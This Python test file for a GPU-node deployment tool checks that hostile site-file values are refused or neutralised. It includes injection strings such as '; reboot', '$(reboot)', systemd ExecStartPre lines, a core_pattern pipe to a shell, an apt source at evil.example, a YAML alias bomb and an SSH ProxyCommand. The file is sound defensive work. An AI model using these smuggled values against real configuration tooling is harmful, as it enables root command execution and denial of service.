"""Hostile and careless site files (issue 22's reproducers): each is a copy of
inventory/examples/bare-metal.yaml with one change that used to be accepted. Now each one
either fails validation (exit 2, the field path, what is allowed) or renders inert."""

from __future__ import annotations

import copy
import time
from pathlib import Path
from typing import Any

import pytest
import yaml

from gpunode.cli.main import main as _unused_main  # noqa: F401 - the CLI must import cleanly
from gpunode.core.files import banned_cpus, node_files
from gpunode.core.hostcmd import user_command, venv_command
from gpunode.core.render import render
from gpunode.core.topology import Gpu
from gpunode.inventory import SiteError, load_site

REPO = Path(__file__).resolve().parents[2]
BARE = yaml.safe_load((REPO / "inventory" / "examples" / "bare-metal.yaml").read_text())


def site_with(tmp_path: Path, change: Any, name: str = "site.yaml") -> Path:
    data = copy.deepcopy(BARE)
    change(data)
    path = tmp_path / name
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return path


def refused(tmp_path: Path, change: Any, field: str, *words: str) -> list[str]:
    """The changed site is refused; a line names `field` and contains `words`."""
    path = site_with(tmp_path, change)
    with pytest.raises(SiteError) as info:
        load_site(path)
    lines = info.value.lines
    hits = [ln for ln in lines if f" {field}:" in ln]
    assert hits, f"no problem reported at {field}: {lines}"
    for word in words:
        assert any(word in ln for ln in hits), (word, hits)
    assert all(ln.startswith(str(path)) for ln in lines), lines
    return hits


def node(data: dict) -> dict:
    return data["nodes"]["gpu01"]


def svc(data: dict, i: int = 0) -> dict:
    return node(data)["vllm"]["services"][i]


# 1. root shell injection ---------------------------------------------------------------------

def test_prefix_with_shell_syntax_is_refused(tmp_path):
    refused(tmp_path, lambda d: node(d)["vllm"].update(prefix="/opt/vllm; reboot #"),
            "nodes.gpu01.vllm.prefix", "absolute path")


@pytest.mark.parametrize("user", ["vllm; reboot", "$(reboot)", "Vllm", "-rf", "a" * 40])
def test_hostile_user_is_refused(tmp_path, user):
    refused(tmp_path, lambda d: node(d)["vllm"].update(user=user), "nodes.gpu01.vllm.user")


def test_commands_quote_what_they_are_given():
    """Defence in depth: the shell commands quote site values even if a model were built
    without validation."""
    p = load_site(REPO / "inventory" / "examples" / "bare-metal.yaml").nodes["gpu01"]
    evil = p.model_copy(deep=True)
    evil.vllm.prefix = "/opt/x; reboot #"
    evil.vllm.user = "u; reboot"
    assert "'/opt/x; reboot #'" in venv_command(evil)
    assert "; reboot #" not in venv_command(evil).replace("'/opt/x; reboot #", "")
    assert user_command(evil).endswith("'u; reboot'")


# 2. unit-file injection -----------------------------------------------------------------------

def test_newline_in_user_is_refused(tmp_path):
    refused(tmp_path, lambda d: node(d)["vllm"].update(
        user="vllm\nExecStartPre=+/bin/sh -c reboot"), "nodes.gpu01.vllm.user")


def test_unit_templates_refuse_a_non_word_user():
    p = load_site(REPO / "inventory" / "examples" / "bare-metal.yaml").nodes["gpu01"]
    data = p.model_dump(mode="json")
    data["vllm"]["user"] = "vllm\nExecStartPre=+/bin/sh -c reboot"
    with pytest.raises(ValueError, match="unit-file word"):
        render("vllm/vllm@.service.j2", data)


# 3. sysctl and apt-source injection -----------------------------------------------------------

def test_newline_in_sysctl_value_is_refused(tmp_path):
    refused(tmp_path, lambda d: d["defaults"]["tuning"]["sysctl"].update(
        {"net.core.somaxconn": "4096\nkernel.core_pattern = |/bin/sh -c reboot"}),
        "defaults.tuning.sysctl.net.core.somaxconn")


def test_pipe_in_sysctl_value_is_refused(tmp_path):
    refused(tmp_path, lambda d: d["defaults"]["tuning"]["sysctl"].update(
        {"kernel.core_pattern": "|/bin/sh -c reboot"}),
        "defaults.tuning.sysctl.kernel.core_pattern")


def test_sysctl_values_of_kernel_shape_pass(tmp_path):
    path = site_with(tmp_path, lambda d: d["defaults"]["tuning"]["sysctl"].update(
        {"net.ipv4.tcp_rmem": "4096 87380 6291456", "net.ipv4.ip_local_port_range": "1024\t65000"}))
    p = load_site(path).nodes["gpu01"]
    text = render("tuning/60-gpunode.conf.j2", p)
    assert "net.ipv4.tcp_rmem = 4096 87380 6291456\n" in text


def test_newline_in_repo_url_is_refused(tmp_path):
    refused(tmp_path, lambda d: d["defaults"]["nvidia"].update(
        repo_url="http://mirror/cuda\ndeb [trusted=yes] http://evil.example/ /"),
        "defaults.nvidia.repo_url", "control characters")


@pytest.mark.parametrize("url", ["http://mirror/a b", "http://mirror/x'y", "ftp://mirror/",
                                 "http://mir ror/", "http://mirror/?q=1", "http:///path"])
def test_malformed_urls_are_refused(tmp_path, url):
    refused(tmp_path, lambda d: d["defaults"]["nvidia"].update(repo_url=url),
            "defaults.nvidia.repo_url")


# 4. Ansible templating (the parity test proves the literal bytes; here: refusal) -----------

def test_template_syntax_in_served_names_is_refused(tmp_path):
    refused(tmp_path, lambda d: svc(d).update(served_names=["{{ lookup('env','HOME') }}"]),
            "nodes.gpu01.vllm.services[0].served_names[0]")


def test_ansible_inventory_marks_every_site_string_unsafe():
    from gpunode.inventory import to_ansible

    inv = to_ansible(load_site(REPO / "inventory" / "examples" / "bare-metal.yaml"))
    strings: list[Any] = []

    def walk(value: Any) -> None:
        if isinstance(value, dict) and set(value) == {"__ansible_unsafe"}:
            return
        if isinstance(value, str):
            strings.append(value)
        elif isinstance(value, dict):
            for v in value.values():
                walk(v)
        elif isinstance(value, list):
            for v in value:
                walk(v)

    for hostvars in inv["_meta"]["hostvars"].values():
        walk(hostvars["node"])
    assert strings == []


# 5. data directories --------------------------------------------------------------------------

@pytest.mark.parametrize("path", ["/etc", "/etc/vllm", "/", "/usr", "/var/lib", "/var/lib/dpkg/x",
                                  "/root/models", "/opt/../etc", "relative/path", "/tmp/hf"])
def test_model_cache_in_system_directory_is_refused(tmp_path, path):
    refused(tmp_path, lambda d: node(d)["vllm"].update(model_cache=path),
            "nodes.gpu01.vllm.model_cache")


@pytest.mark.parametrize("path", ["/var/lib/vllm/hf", "/srv/models", "/data/hf", "/models/hf",
                                  "/mnt/nvme0/hf"])
def test_model_cache_in_data_directory_passes(tmp_path, path):
    p = load_site(site_with(tmp_path, lambda d: node(d)["vllm"].update(model_cache=path)))
    assert p.nodes["gpu01"].vllm.model_cache == path


# 6. alias bomb --------------------------------------------------------------------------------

def alias_bomb(tmp_path: Path) -> Path:
    """Under 1 KB of YAML that expands to 2**23 strings."""
    lines = ["a0: &a0 [lol, lol]"]
    lines += [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]" for i in range(1, 23)]
    lines += ["nodes: {gpu01: {connection: {address: *a22}}}"]
    path = tmp_path / "bomb.yaml"
    path.write_text("\n".join(lines) + "\n")
    assert path.stat().st_size < 1024
    return path


def test_alias_bomb_fails_fast(tmp_path):
    path = alias_bomb(tmp_path)
    start = time.monotonic()
    with pytest.raises(SiteError) as info:
        load_site(path)
    assert time.monotonic() - start < 1.0
    assert "alias" in info.value.lines[0]


def test_recursive_alias_is_refused(tmp_path):
    path = tmp_path / "loop.yaml"
    path.write_text("x: &x [1, *x]\nnodes: {gpu01: {connection: {address: h}}}\n")
    with pytest.raises(SiteError, match="recursive alias"):
        load_site(path)


def test_ordinary_aliases_still_work(tmp_path):
    path = tmp_path / "aliases.yaml"
    path.write_text("defaults:\n  connection: &c {address: h1, user: ubuntu}\n"
                    "nodes:\n  a: {connection: *c}\n  b: {connection: {<<: *c, address: h2}}\n")
    site = load_site(path)
    assert site.nodes["b"].connection.user == "ubuntu"


# 7. revisions -------------------------------------------------------------------------------

@pytest.mark.parametrize("rev", ["main", "v1.0", "2123003760781134cfc31124aa6560a45b491fd",
                                 "2123003760781134CFC31124AA6560A45B491FDF"])
def test_revision_must_be_a_commit_hash(tmp_path, rev):
    refused(tmp_path, lambda d: svc(d).update(revision=rev),
            "nodes.gpu01.vllm.services[0].revision")


# 8. ports ------------------------------------------------------------------------------------

def test_privileged_port_needs_the_capability(tmp_path):
    refused(tmp_path, lambda d: svc(d).update(port=443), "nodes.gpu01.vllm.services[0].port",
            "bind_privileged_ports")


def test_privileged_port_with_the_capability_reaches_the_unit(tmp_path):
    def change(d):
        svc(d).update(port=443)
        node(d)["vllm"]["bind_privileged_ports"] = True
    p = load_site(site_with(tmp_path, change)).nodes["gpu01"]
    unit = render("vllm/vllm@.service.j2", p)
    assert "AmbientCapabilities=CAP_NET_BIND_SERVICE\n" in unit
    assert "CapabilityBoundingSet=CAP_NET_BIND_SERVICE\n" in unit


def test_unprivileged_unit_has_no_capability(tmp_path):
    p = load_site(site_with(tmp_path, lambda d: None)).nodes["gpu01"]
    unit = render("vllm/vllm@.service.j2", p)
    assert "AmbientCapabilities=\n" in unit and "CapabilityBoundingSet=\n" in unit


def test_boolean_port_is_refused(tmp_path):
    refused(tmp_path, lambda d: svc(d).update(port=True), "nodes.gpu01.vllm.services[0].port",
            "integer")


# 9. GPUs vs parallelism -------------------------------------------------------------------

def test_gpus_must_match_tensor_parallel_size(tmp_path):
    refused(tmp_path, lambda d: svc(d).update(tensor_parallel_size=1),
            "nodes.gpu01.vllm.services[0].tensor_parallel_size", "set tensor_parallel_size to 2")


def test_pipeline_parallel_counts_too(tmp_path):
    def change(d):
        svc(d).update(tensor_parallel_size=1, extra_args={"pipeline-parallel-size": 2})
    load_site(site_with(tmp_path, change))


# 10. layers and cross references --------------------------------------------------------------

def test_wrong_typed_group_value_is_reported_at_the_group(tmp_path):
    refused(tmp_path, lambda d: d["groups"]["gpu_nodes"].update(vllm="0.33.0"),
            "groups.gpu_nodes.vllm", "must be a mapping")


def test_unused_group_is_type_checked(tmp_path):
    refused(tmp_path, lambda d: d["groups"].update(spare={"tuning": {"swappiness": "lots"}}),
            "groups.spare.tuning.swappiness")


PROXMOX = yaml.safe_load((REPO / "inventory" / "examples" / "proxmox.yaml").read_text())


def proxmox_with(tmp_path: Path, change: Any) -> Path:
    data = copy.deepcopy(PROXMOX)
    change(data)
    path = tmp_path / "pve.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return path


def pve_refused(tmp_path: Path, change: Any, field: str, word: str) -> None:
    with pytest.raises(SiteError) as info:
        load_site(proxmox_with(tmp_path, change))
    assert any(f" {field}:" in ln and word in ln for ln in info.value.lines), info.value.lines


def test_dangling_pve_node(tmp_path):
    pve_refused(tmp_path, lambda d: d["nodes"]["gpuvm1"]["vm"].update(pve_node="pve9"),
                "nodes.gpuvm1.vm.pve_node", "not a pve-host node")


def test_dangling_mapping(tmp_path):
    pve_refused(tmp_path, lambda d: d["nodes"]["gpuvm1"]["vm"].update(
        hostpci=[{"mapping": "a6000-7"}]), "nodes.gpuvm1.vm.hostpci[0].mapping", "a6000-7")


def test_duplicate_vmid(tmp_path):
    pve_refused(tmp_path, lambda d: d["nodes"]["gpuvm2"]["vm"].update(vmid=201),
                "nodes.gpuvm2.vm.vmid", "also used by gpuvm1")


def test_duplicate_mapping_name(tmp_path):
    def change(d):
        maps = d["nodes"]["pve1"]["pve"]["pci_mappings"]
        maps[1]["name"] = maps[0]["name"]
    pve_refused(tmp_path, change, "nodes.pve1.pve.pci_mappings[1].name", "duplicate")


def test_proxmox_example_is_consistent():
    load_site(REPO / "inventory" / "examples" / "proxmox.yaml")


# 11. limits ----------------------------------------------------------------------------------

@pytest.mark.parametrize("value", [-5, "lots", "5 G", True])
def test_bad_memlock_is_refused(tmp_path, value):
    refused(tmp_path, lambda d: d["defaults"]["tuning"].update(limits={"memlock": value}),
            "defaults.tuning.limits.memlock")


@pytest.mark.parametrize("value", ["infinity", 0, 68719476736, "64G"])
def test_memlock_sizes_pass(tmp_path, value):
    p = load_site(site_with(tmp_path, lambda d: d["defaults"]["tuning"].update(
        limits={"memlock": value}))).nodes["gpu01"]
    assert f"LimitMEMLOCK={value}\n" in render("vllm/vllm@.service.j2", p)


# 12. sandboxing: tests/unit/test_unit_sandbox.py (systemd-analyze security --offline) --------

# 13. secrets through extra_args / extra_env ------------------------------------------------

@pytest.mark.parametrize("key", ["hf-token", "hf_token", "api_key"])
def test_secret_args_are_refused(tmp_path, key):
    refused(tmp_path, lambda d: svc(d).update(extra_args={key: "hf_abc"}),
            "nodes.gpu01.vllm.services[0].extra_args", "api_key_file")


@pytest.mark.parametrize("key", ["HUGGING_FACE_HUB_TOKEN", "HF_TOKEN", "VLLM_API_KEY",
                                 "S3_SECRET_ACCESS_KEY", "OPENAI_API_KEY"])
def test_secret_env_is_refused(tmp_path, key):
    refused(tmp_path, lambda d: svc(d).update(extra_env={key: "hf_abc"}),
            "nodes.gpu01.vllm.services[0].extra_env", "api_key_file")


def test_token_thresholds_are_not_secrets(tmp_path):
    load_site(site_with(tmp_path, lambda d: svc(d).update(
        extra_env={"VLLM_MULTI_STREAM_GEMM_TOKEN_THRESHOLD": "1024"},
        extra_args={"long-prefill-token-threshold": 512})))


# 14. irqbalance ---------------------------------------------------------------------------

def _gpus(cpus: list[list[int]]) -> list[Gpu]:
    return [Gpu(index=i, uuid=f"GPU-{i}", name="NVIDIA RTX A6000", bus_id=f"00000000:0{i}:00.0",
                memory_mib=49140, driver_version="580.95.05", cpus=c, numa_node=0)
            for i, c in enumerate(cpus)]


def test_irqbalance_never_bans_every_cpu():
    p = load_site(REPO / "inventory" / "examples" / "bare-metal.yaml").nodes["gpu01"]
    single_socket = _gpus([[0, 1, 2, 3], [0, 1, 2, 3]])
    assert banned_cpus(p, single_socket) == ""
    assert not any("irqbalance" in f.path for f in node_files(p, single_socket))
    two_sockets = _gpus([[0, 1], [2, 3], [4, 5]])  # a third GPU's socket stays free
    assert banned_cpus(p, two_sockets) == "0-3"


def test_validate_command_refuses_the_alias_bomb(tmp_path):
    from typer.testing import CliRunner

    from gpunode.cli.main import app

    path = alias_bomb(tmp_path)
    start = time.monotonic()
    result = CliRunner().invoke(app, ["validate", "--site", str(path)])
    assert time.monotonic() - start < 1.0
    assert result.exit_code == 2, result.output
    assert "alias bomb" in result.output


# --- review findings --------------------------------------------------------------------

@pytest.mark.parametrize("key", ["LD_PRELOAD", "LD_LIBRARY_PATH", "GLIBC_TUNABLES",
                                 "CUDA_VISIBLE_DEVICES", "HF_HOME", "HF_HUB_OFFLINE",
                                 "CREDENTIALS_DIRECTORY", "PYTHONPATH", "ld_preload"])
def test_extra_env_cannot_override_what_gpunode_sets_or_load_code(tmp_path, key):
    refused(tmp_path, lambda d: svc(d).update(extra_env={key: "/var/lib/vllm/x"}),
            "nodes.gpu01.vllm.services[0].extra_env")


def test_lower_case_proxy_variables_pass(tmp_path):
    load_site(site_with(tmp_path, lambda d: svc(d).update(
        extra_env={"https_proxy": "http://proxy.example:3128", "no_proxy": "localhost"})))


def test_managed_environment_wins_and_root_command_gets_none():
    p = load_site(REPO / "inventory" / "examples" / "bare-metal.yaml").nodes["gpu01"]
    data = p.model_dump(mode="json")
    data["vllm"]["services"][0]["extra_env"] = {"HF_HOME": "/tmp/evil"}  # past validation
    env = render("vllm/service.env.j2", data, service=data["vllm"]["services"][0])
    assert f"HF_HOME={p.vllm.model_cache}\n" in env and "/tmp/evil" not in env
    unit = render("vllm/vllm@.service.j2", p)
    assert "ExecStartPre=-+/usr/bin/env -i /usr/bin/nvidia-modprobe" in unit


@pytest.mark.parametrize("path", ["/usr/local/sbin", "/usr/local/lib/x", "/var/lib/cloud/x",
                                  "/var/lib/polkit-1/x", "/opt/cni/bin", "/var/lib/gpunode/x",
                                  "/home/alice/hf"])
def test_model_cache_never_where_root_runs_from(tmp_path, path):
    refused(tmp_path, lambda d: node(d)["vllm"].update(model_cache=path),
            "nodes.gpu01.vllm.model_cache")


@pytest.mark.parametrize("path", ["/raid/hf", "/data", "/models", "/nvme/cache"])
def test_dedicated_model_mounts_pass(tmp_path, path):
    load_site(site_with(tmp_path, lambda d: node(d)["vllm"].update(model_cache=path)))


@pytest.mark.parametrize("prefix", ["/var/lib/vllm/hf", "/var/lib/vllm/venvs"])
def test_prefix_outside_the_service_users_directories(tmp_path, prefix):
    refused(tmp_path, lambda d: node(d)["vllm"].update(prefix=prefix), "nodes.gpu01.vllm.prefix",
            "outside")


@pytest.mark.parametrize("user", ["root", "daemon", "nobody", "systemd-network"])
def test_service_user_is_an_account_of_its_own(tmp_path, user):
    refused(tmp_path, lambda d: node(d)["vllm"].update(user=user), "nodes.gpu01.vllm.user")


def test_service_user_is_not_the_ssh_user(tmp_path):
    refused(tmp_path, lambda d: node(d)["vllm"].update(user="deploy") or
            node(d)["connection"].update(user="deploy"), "nodes.gpu01.vllm.user", "SSH user")


@pytest.mark.parametrize("host", ["fe80::1%eth0\nExecStartPre=x", "fe80::1%$(reboot)",
                                  "fe80::1%a b"])
def test_ipv6_scope_is_an_interface_name(tmp_path, host):
    refused(tmp_path, lambda d: svc(d).update(host=host), "nodes.gpu01.vllm.services[0].host")


def test_ipv6_listen_addresses_pass(tmp_path):
    load_site(site_with(tmp_path, lambda d: svc(d).update(host="::")))


@pytest.mark.parametrize("args", [{"pipeline-parallel-size": "2"},
                                  {"pipeline-parallel-size": True},
                                  {"enable_prefix_caching": True, "enable-prefix-caching": False},
                                  {"download-dir": "/tmp"}, {"uds": "/run/x.sock"}])
def test_extra_args_cannot_undo_the_typed_fields(tmp_path, args):
    refused(tmp_path, lambda d: svc(d).update(extra_args=args),
            "nodes.gpu01.vllm.services[0].extra_args")


@pytest.mark.parametrize("name", ["all", "ungrouped", "gpu01"])
def test_reserved_or_clashing_group_names(tmp_path, name):
    refused(tmp_path, lambda d: d["groups"].update({name: {}}), f"groups.{name}")


@pytest.mark.parametrize("key", ["kernel.modprobe", "kernel.core_pattern", "vm.swappiness",
                                 "vm.nr_hugepages"])
def test_sysctls_that_run_programs_or_have_fields(tmp_path, key):
    refused(tmp_path, lambda d: d["defaults"]["tuning"]["sysctl"].update({key: "1"}),
            "defaults.tuning.sysctl")


def test_memlock_size_is_written_in_kib_for_pam(tmp_path):
    p = load_site(site_with(tmp_path, lambda d: d["defaults"]["tuning"].update(
        limits={"memlock": "64G"}))).nodes["gpu01"]
    assert "memlock   67108864\n" in render("tuning/60-gpunode-limits.conf.j2", p)


def test_recorded_guest_address_is_validated(tmp_path):
    import json

    from gpunode.proxmox.run import addresses_path, use_recorded_addresses

    doc = yaml.safe_load((REPO / "inventory" / "examples" / "proxmox.yaml").read_text())
    doc["nodes"]["gpuvm1"]["connection"]["address"] = "auto"
    path = tmp_path / "pve.yaml"
    path.write_text(yaml.safe_dump(doc))
    site = load_site(path)
    record = addresses_path(path)
    record.parent.mkdir(parents=True, exist_ok=True)
    record.write_text(json.dumps({"gpuvm1": {"address": "10.0.0.5\n  ProxyCommand sh -c id"}}))
    missing = use_recorded_addresses(site)
    assert site.nodes["gpuvm1"].connection.address == "auto"
    assert any("not an IP address or host name" in m for m in missing)
